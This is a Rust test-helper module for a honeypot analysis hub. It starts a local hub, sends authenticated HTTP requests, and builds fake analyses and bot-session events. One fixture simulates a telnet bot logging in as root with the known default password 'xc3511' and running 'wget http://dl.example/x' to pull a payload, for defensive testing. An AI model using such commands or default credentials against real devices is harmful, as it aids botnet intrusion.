//! A running hub, and a client that speaks HTTP to it.

use crate::{
    Analyzer, Hub, HubConfig, HubContext, RunningHub, SandboxSeat, Secret, ServiceInfo, Services,
    clock,
};
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::header::{AUTHORIZATION, CONTENT_TYPE};
use hyper::{HeaderMap, Method, Request, Response, StatusCode};
use hyper_util::rt::TokioIo;
use serde_json::Value;
use std::future::Future;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tempfile::TempDir;
use ukai_engine::Engines;
use ukai_indicator::Policy;
use ukai_model::{
    Analysis, CaptureHow, CloseReason, Event, EventId, EventKind, FetchOutcome, FileType, Flow,
    Found, Hashes, Observable, ObservableKind, Outcome, SCHEMA_VERSION, SessionId, Sha256,
    StringEncoding, Timestamp, Transport,
};
use ukai_store::{Store, StoreConfig};

pub(crate) const TOKEN: &str = "operator-token-0123456789";
pub(crate) const FEED_TOKEN: &str = "feed-token-0123456789";

/// A running hub with its folder.
pub(crate) struct Rig {
    pub(crate) hub: Option<RunningHub>,
    pub(crate) store: Store,
    pub(crate) folder: TempDir,
    pub(crate) address: SocketAddr,
    config: HubConfig,
    policy: Policy,
    sandbox: Option<SandboxSeat>,
    engines: Option<Arc<Engines>>,
    lookups: Option<Arc<Services>>,
}

/// How a rig is to be.
pub(crate) struct Plan {
    pub(crate) config: HubConfig,
    pub(crate) store: StoreConfig,
    pub(crate) policy: Policy,
    /// In a folder, not in memory.
    pub(crate) on_disk: bool,
    /// What `/bin/sh` does in place of the analysis; `$1` is the rig's folder.
    pub(crate) analyzer: &'static str,
    /// Where samples are run.
    pub(crate) sandbox: Option<SandboxSeat>,
    /// Who is asked about samples.
    pub(crate) engines: Option<Arc<Engines>>,
    pub(crate) lookups: Option<Arc<Services>>,
}

impl Default for Plan {
    fn default() -> Self {
        let mut config = HubConfig { publish_interval_ms: 100, ..HubConfig::default() };
        config.listen = SocketAddr::from(([127, 0, 0, 1], 0));
        let store = StoreConfig {
            flush_ms: 5,
            free_bytes_min: 0,
            job_retry_ms: 10,
            job_attempts_max: 2,
            ..StoreConfig::default()
        };
        let policy = Policy { publish_documentation_ranges: true, ..Policy::default() };
        // Prints what the test prepared for any sample.
        let analyzer = "exec /bin/cat \"$1/analysis\"";
        let (sandbox, engines, lookups) = (None, None, None);
        Self { config, store, policy, on_disk: false, analyzer, sandbox, engines, lookups }
    }
}

impl Rig {
    pub(crate) async fn start() -> Self {
        Self::of(Plan::default()).await
    }

    pub(crate) async fn of(plan: Plan) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let store = if plan.on_disk {
            Store::open(folder.path(), plan.store).expect("opens")
        } else {
            Store::in_memory(plan.store)
        };
        std::fs::write(folder.path().join("analyzer.sh"), plan.analyzer).expect("writes");
        let policy = plan.policy;
        let address = SocketAddr::from(([127, 0, 0, 1], 0));
        let (config, sandbox) = (plan.config, plan.sandbox);
        let (engines, lookups) = (plan.engines, plan.lookups);
        let mut rig =
            Self { hub: None, store, folder, address, config, policy, sandbox, engines, lookups };
        rig.resume().await;
        rig
    }

    /// Starts a hub on the same store and folder.
    pub(crate) async fn resume(&mut self) {
        let context = self.context();
        let hub = Hub::start(self.config.clone(), self.store.clone(), context).await;
        let hub = hub.expect("starts");
        self.address = hub.address();
        self.hub = Some(hub);
    }

    pub(crate) fn context(&self) -> HubContext {
        let folder: PathBuf = self.folder.path().to_owned();
        HubContext {
            sensor: "test".parse().expect("a name"),
            services: vec![ServiceInfo {
                protocol: "telnet".into(),
                address: SocketAddr::from(([127, 0, 0, 1], 2323)),
                persona: "router-mips".into(),
            }],
            data_dir: folder.clone(),
            version: "0.0.0-test".into(),
            analyzer: Analyzer {
                program: "/bin/sh".into(),
                arguments: vec![folder.join("analyzer.sh").into(), folder.clone().into()],
                warm: false,
                viewer: vec![folder.join("viewer.sh").into(), folder.into()],
            },
            ui_token: Secret::new(TOKEN),
            feed_token: Secret::new(FEED_TOKEN),
            sandbox: self.sandbox.clone(),
            engines: self.engines.clone(),
            lookups: self.lookups.clone(),
            policy: self.policy.clone(),
        }
    }

    pub(crate) async fn stop(&mut self) {
        self.hub.take().expect("runs").shutdown().await;
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Sends a request as it is.
    pub(crate) async fn send(&self, request: Request<Full<Bytes>>) -> Response<Incoming> {
        send(self.address, request).await
    }

    /// GET with the operator's token.
    pub(crate) async fn get(&self, path: &str) -> Answer {
        self.ask(Method::GET, path, Bytes::new()).await
    }

    /// Any method with the operator's token; a body is JSON.
    pub(crate) async fn ask(&self, method: Method, path: &str, body: impl Into<Bytes>) -> Answer {
        let request = request(method, path)
            .header(AUTHORIZATION, format!("Bearer {TOKEN}"))
            .header(CONTENT_TYPE, "application/json")
            .body(Full::new(body.into()))
            .expect("a request");
        Answer::of(self.send(request).await).await
    }

    /// GET that must succeed with JSON.
    pub(crate) async fn json(&self, path: &str) -> Value {
        let answer = self.get(path).await;
        assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text());
        answer.json()
    }

    /// A bot's session with a captured file whose analysis finds a C&C name.
    pub(crate) async fn attacked(&self, bot: &'static [u8]) -> SessionId {
        self.prepare_analysis(bot, &[domain("c2.example")]);
        self.store.put_sample(Bytes::from_static(bot)).await.expect("kept");
        let begin = clock::now() - Duration::from_secs(1);
        let peer = "198.51.100.7:4000";
        let (id, mut events) = session(begin, peer);
        events.extend(captured(begin + Duration::from_millis(10), id, peer, bot));
        self.store.submit(events).await.expect("stored");
        id
    }

    /// What the fake analysis says of `sample` (with names and addresses in it).
    pub(crate) fn prepare_analysis(&self, sample: &[u8], observables: &[Observable]) {
        let mut line = serde_json::to_vec(&analysis(sample, observables)).expect("serialises");
        line.push(b'\n');
        replace(&self.path("analysis"), &line);
    }
}

fn replace(path: &Path, bytes: &[u8]) {
    std::fs::write(path, bytes).expect("writes");
}

/// A whole answer.
pub(crate) struct Answer {
    pub(crate) status: StatusCode,
    pub(crate) headers: HeaderMap,
    pub(crate) body: Bytes,
}

impl Answer {
    pub(crate) async fn of(response: Response<Incoming>) -> Self {
        let (head, body) = response.into_parts();
        let body = body.collect().await.expect("a whole body").to_bytes();
        Self { status: head.status, headers: head.headers, body }
    }

    pub(crate) fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or_else(|error| {
            panic!("{}: {error}: {}", self.status, self.text());
        })
    }

    pub(crate) fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }

    /// Asserts an error with a remedy.
    #[track_caller]
    pub(crate) fn is_error(&self, status: StatusCode) {
        assert_eq!(self.status, status, "{}", self.text());
        let body = self.json();
        for field in ["error", "remedy"] {
            assert!(body[field].as_str().is_some_and(|text| !text.is_empty()), "{body}");
        }
    }
}

pub(crate) fn request(method: Method, path: &str) -> hyper::http::request::Builder {
    Request::builder().method(method).uri(path).header("host", "127.0.0.1")
}

pub(crate) async fn send(address: SocketAddr, request: Request<Full<Bytes>>) -> Response<Incoming> {
    let stream = tokio::net::TcpStream::connect(address).await.expect("connects");
    let (mut sender, connection) =
        hyper::client::conn::http1::handshake(TokioIo::new(stream)).await.expect("speaks HTTP");
    tokio::spawn(connection);
    sender.send_request(request).await.expect("an answer")
}

/// Waits until `condition` holds, at most ten seconds.
pub(crate) async fn until<F: Future<Output = bool>>(what: &str, mut condition: impl FnMut() -> F) {
    let end = Instant::now() + Duration::from_secs(10);
    while !condition().await {
        assert!(Instant::now() < end, "never happened: {what}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

pub(crate) fn domain(value: &str) -> Observable {
    Observable { kind: ObservableKind::Domain, value: value.into() }
}

pub(crate) fn analysis(sample: &[u8], observables: &[Observable]) -> Analysis {
    let sha256 = Sha256::of(sample);
    let found = |(n, observable): (usize, &Observable)| Found {
        observable: observable.clone(),
        offset: 1_000 * (n as u64 + 1),
        encoding: StringEncoding::Xor { key: 0x22 },
        method: "strings".into(),
        layer: None,
        confidence: 90,
    };
    Analysis {
        sha256,
        engine: "static".into(),
        engine_version: 1,
        started: Timestamp::from_secs(1),
        duration_ms: 1,
        outcome: Outcome::Complete,
        size: sample.len() as u64,
        file_type: Some(FileType {
            name: "elf".into(),
            mime: "application/x-executable".into(),
            description: "ELF 32-bit MSB executable, MIPS".into(),
            reasons: Vec::new(),
            also: Vec::new(),
        }),
        hashes: None,
        elf: None,
        pe: None,
        mach: Vec::new(),
        dex: Vec::new(),
        android: Vec::new(),
        entropy: 5.5,
        observables: observables.iter().enumerate().map(found).collect(),
        members: Vec::new(),
        configurations: Vec::new(),
        artefacts: Vec::new(),
        yara: Vec::new(),
        strings: Vec::new(),
        commands: Vec::new(),
        acts: Vec::new(),
        notes: Vec::new(),
    }
}

pub(crate) fn event(time: Timestamp, session: SessionId, peer: &str, kind: EventKind) -> Event {
    Event {
        v: SCHEMA_VERSION,
        id: EventId::new(time, rand::random()),
        time,
        sensor: "test".parse().expect("a name"),
        session: Some(session),
        flow: Some(Flow::new(
            Transport::Tcp,
            peer.parse().expect("an address"),
            "192.0.2.1:23".parse().expect("an address"),
        )),
        kind,
    }
}

/// A bot's session at `time`: log-in, commands, a download; nothing captured.
pub(crate) fn session(time: Timestamp, peer: &str) -> (SessionId, Vec<Event>) {
    let id = SessionId::new(time, rand::random());
    let telnet = || "telnet".to_owned();
    let kinds = vec![
        EventKind::SessionOpen { protocol: telnet(), persona: "router-mips".into() },
        EventKind::LoginAttempt {
            protocol: telnet(),
            user: "root".into(),
            password: "xc3511".into(),
            method: None,
            proof: None,
            success: true,
        },
        EventKind::CommandInput { line: "wget http://dl.example/x".into(), unknown: Vec::new() },
        EventKind::DownloadRequest { url: "http://dl.example/x".into(), tool: "wget".into() },
        EventKind::SessionClose {
            protocol: telnet(),
            reason: CloseReason::Peer,
            duration_ms: 900,
            bytes_in: 100,
            bytes_out: 200,
            recorded: false,
        },
    ];
    let spaced = kinds
        .into_iter()
        .enumerate()
        .map(|(n, kind)| event(time + Duration::from_millis(n as u64), id, peer, kind));
    (id, spaced.collect())
}

/// The events of a file that was fetched from `http://dl.example/x`.
pub(crate) fn captured(
    time: Timestamp,
    session: SessionId,
    peer: &str,
    sample: &[u8],
) -> Vec<Event> {
    let (sha256, size) = (Sha256::of(sample), sample.len() as u64);
    let result = EventKind::DownloadResult {
        url: "http://dl.example/x".into(),
        outcome: FetchOutcome::Complete,
        sha256: Some(sha256),
        size,
        server_ip: None,
        final_url: None,
        error: None,
        duration_ms: 20,
    };
    let capture = EventKind::SampleCaptured {
        sha256,
        size,
        how: CaptureHow::Fetched,
        name: Some("x".into()),
        url: Some("http://dl.example/x".into()),
    };
    vec![event(time, session, peer, result), event(time, session, peer, capture)]
}

/// Bytes that look like code: a fixed sequence with `changes` bytes of another.
pub(crate) fn code_like(seed: u64, changes: usize) -> Vec<u8> {
    let mut state = seed;
    let mut next = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        (state >> 33) as u8 & 0x3f
    };
    let mut bytes: Vec<u8> = (0..20_000).map(|_| next()).collect();
    bytes.iter_mut().step_by(97).take(changes).for_each(|byte| *byte ^= 0x55);
    bytes
}

/// Its analysis, with the digest by which likeness is found.
pub(crate) fn with_digest(bytes: &[u8]) -> Analysis {
    let mut analysis = analysis(bytes, &[]);
    let digest = tlsh2::TlshDefaultBuilder::build_from(bytes).expect("enough bytes").hash();
    analysis.hashes = Some(Hashes {
        md5: String::new(),
        sha1: String::new(),
        sha256: String::new(),
        ssdeep: None,
        tlsh: Some(digest.iter().map(|c| char::from(*c)).collect()),
        functions: None,
    });
    analysis
}
